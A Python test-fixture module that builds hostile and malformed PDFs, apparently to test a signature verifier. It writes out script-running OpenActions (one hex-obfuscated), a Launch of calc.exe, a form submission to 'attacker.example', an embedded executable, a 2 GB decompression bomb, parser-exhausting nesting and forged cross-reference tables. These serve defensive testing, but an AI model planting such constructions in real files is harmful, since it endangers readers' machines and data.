"""Files that are not what they say, hold something that acts, or are made to break whoever reads them."""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Dictionary, Encryption, Name, ObjectStreamMode, Stream, String

from tests.signatures import honest
from tests.signatures.hands import sign, with_field
from tests.signatures.papers import paper
from tests.signatures.raw import OBJECTS, Raw
from tests.signatures.world import World


def unsigned(_world: World) -> bytes:
    return paper()


def empty_field(_world: World) -> bytes:
    return with_field(paper())


def orphan_signature(world: World) -> bytes:
    """A signature that stands in the file, but in no field."""
    return Raw({1: b"<< /Type /Catalog /Pages 2 0 R >>", 5: b"<< /Was (a field) >>"}).by(world.vendor)


def field_outside_the_form(world: World) -> bytes:
    return Raw({1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>"}).by(world.vendor)


def empty(_world: World) -> bytes:
    return b""


def picture(_world: World) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 300


def page(_world: World) -> bytes:
    return b"<html><script>alert(1)</script></html>"


def html_before(world: World) -> bytes:
    return b"<html><script>alert(1)</script></html>\n" + honest.signed(world)


def html_inside(world: World) -> bytes:
    return Raw({6: b"null"}, hidden=b"%<html><script>alert(1)</script>\n").by(world.vendor)


def encrypted(world: World) -> bytes:
    return paper(encryption=Encryption(owner="o", user="u"))


def encrypted_without_a_word(world: World) -> bytes:
    return paper(encryption=Encryption(owner="o", user=""))


def _with(change: Callable[[pikepdf.Pdf], None], world: World, **options: object) -> bytes:
    return sign(paper(change, **options), world.vendor)


def action(world: World, **entries: object) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(entries))

    return _with(change, world)


SCRIPT = {"/S": Name.JavaScript, "/JS": String("app.alert(1)")}


def script(world: World) -> bytes:
    return action(world, **SCRIPT)


def script_with_a_hexadecimal_name(world: World) -> bytes:
    return Raw({1: OBJECTS[1][:-3] + b" /OpenAction << /S /#4Aava#53cript /#4a#53 (app.alert\\(1\\)) >> >>"}).by(
        world.vendor
    )


def script_in_an_object_stream(world: World) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Kept = pdf.make_indirect(Dictionary(SCRIPT))

    return _with(change, world, object_stream_mode=ObjectStreamMode.generate)


def launch(world: World) -> bytes:
    return action(world, **{"/S": Name.Launch, "/F": String("calc.exe")})


def submit(world: World) -> bytes:
    return action(world, **{"/S": Name.SubmitForm, "/F": String("https://attacker.example")})


def xfa(world: World) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm.XFA = Stream(pdf, b"<xdp/>")

    return _with(change, world)


FILE: dict[str, Any] = {"filename": "program.exe"}


def attachment(world: World) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["program.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ", **FILE)

    return _with(change, world)


def bytes_elsewhere(world: World) -> bytes:
    """What is seen comes from a file beside this one, which nobody signed."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].Contents = Stream(pdf, b"", F=Dictionary(Type=Name.Filespec, F=String("elsewhere.txt")))

    return _with(change, world)


def page_of_another_file(world: World) -> bytes:
    """A reference XObject: a viewer may draw a page of another file in its place."""

    def change(pdf: pikepdf.Pdf) -> None:
        form = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
        form.Ref = Dictionary(F=String("other.pdf"), Page=0)
        pdf.pages[0].Resources.XObject = Dictionary(Other=form)

    return _with(change, world)


def film(world: World) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
        pdf.pages[0].obj.Annots.append(pdf.make_indirect(film))

    return _with(change, world)


def bomb(_world: World) -> bytes:
    """An object stream that unpacks to two gigabytes, in which the signature should stand."""
    first = b"6 0 << /Type /Sig >> "
    packed = zlib.compressobj(9, wbits=-15)
    head = packed.compress(first) + packed.flush(zlib.Z_FULL_FLUSH)
    piece, sum_of_all = b" " * (1 << 22), zlib.adler32(first)
    block = packed.compress(piece) + packed.flush(zlib.Z_FULL_FLUSH)
    for _block in range(512):
        sum_of_all = zlib.adler32(piece, sum_of_all)
    data = b"\x78\xda" + head + block * 512 + packed.flush() + sum_of_all.to_bytes(4)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
    written = Raw({6: b"null", 7: stream + data + b"\nendstream"}).written()
    return _with_a_stream_of_places(written)


def _with_a_stream_of_places(written: bytes) -> bytes:
    """Write the table of contents as a stream, in which the sixth object lies inside the seventh."""
    body = written[: written.rindex(b"xref\n0 ")]
    rows = b"".join(
        b"\x02" + (7).to_bytes(4) + b"\0\0" if number == 6 else b"\x01" + _place(body, number).to_bytes(4) + b"\0\0"
        for number in range(1, 8)
    )
    rows = b"\0" * 7 + rows + b"\x01" + len(body).to_bytes(4) + b"\0\0"
    table = b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
    return body + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _place(body: bytes, number: int) -> int:
    return body.index(b"\n%d 0 obj\n" % number) + 1


def nested_arrays(_world: World) -> bytes:
    depth = 200_000
    return Raw({6: b"<< /V " + b"[" * depth + b"]" * depth + b" >>"}).written()


def nested_fields(_world: World) -> bytes:
    """Each form field is the child of another, two thousand deep."""
    rows = {7 + number: b"<< /T (a) /Kids [%d 0 R] >>" % (8 + number) for number in range(2000)}
    last = {2007: b"<< /T (z) /FT /Tx /V (1) >>"}
    first = {1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [7 0 R] >> >>"}
    return Raw({**rows, **last, **first, 6: b"null"}).written()


def fields_in_a_circle(_world: World) -> bytes:
    return Raw({6: b"<< /T (a) /Kids [6 0 R] >>", 1: OBJECTS[1].replace(b"5 0 R", b"6 0 R")}).written()


def tables_in_a_circle(world: World) -> bytes:
    data = Raw().by(world.vendor)
    start = re.findall(rb"startxref\n(\d+)", data)[-1]
    return data.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %s " % start)


def hybrid(world: World) -> bytes:
    """A file with two kinds of tables of contents, which two programs may read as two documents."""
    stream = (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 2 1] /Index [7 1] /Length 4 /Root 1 0 R >>\nstream\n\x01\x00\x0f\x00"
    )
    stream += b"\nendstream\nendobj\n"
    body = Raw(hidden=stream).written()
    return Raw(hidden=stream, trailer=b"/XRefStm %010d" % body.index(b"7 0 obj")).by(world.vendor)


def sixty_signatures(world: World) -> bytes:
    data = paper()
    for number in range(60):
        data = sign(data, world.vendor, f"Signature{number}")
    return data


def header_only(_world: World) -> bytes:
    return b"%PDF-1.7\n%%EOF"


def cut_off(world: World) -> bytes:
    return honest.signed(world)[:-400] + b"\n%%EOF\n"
